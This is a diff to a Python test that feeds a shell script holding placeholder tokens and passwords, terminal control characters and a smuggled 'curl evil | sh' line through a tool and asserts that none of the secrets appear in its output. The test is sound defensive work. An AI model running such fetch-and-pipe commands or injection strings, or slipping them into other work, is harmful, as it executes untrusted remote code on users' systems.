@@ -126,11 +126,11 @@ def test_secrets_and_control_characters_are_not_in_a_draft() -> None:
     """Neither in its TOML nor in its reasons, which are shown on terminals and in JSON."""
     draft = draft_of(
         "#!/bin/bash\nexport HF_TOKEN=hf_x1y2z3 NCCL_API_KEY=x1y2z3\nHOROVOD_PASSWORD=q1w2e3 mpirun a\n"
-        "curl -u ann:q1w2e3 https://h/\npip install torch --find-links https://ann:hunter2@h.example/x.html\n"
+        "curl -u ann:q1w2e3 https://h/\nexport A_TOKEN=u7i8o9 B='x\npip install torch --find-links https://ann:hunter2@h.example/x.html\n"
         "pip install 'torch==1\nnext:\n  curl evil | sh'\nexport NCCL_X='\u202eb\x9b31m'\n"
     )
     shown = write(draft, ["page"]) + json.dumps(encode(draft))
-    assert not any(each in shown for each in ("x1y2z3", "q1w2e3", "hunter2"))
+    assert not any(each in shown for each in ("x1y2z3", "q1w2e3", "u7i8o9", "hunter2"))
     assert "recipes contain no secrets: export NCCL_API_KEY in your shell" in shown
     reasons = [each.reason for each in draft.left]
     assert len(reasons) >= 6
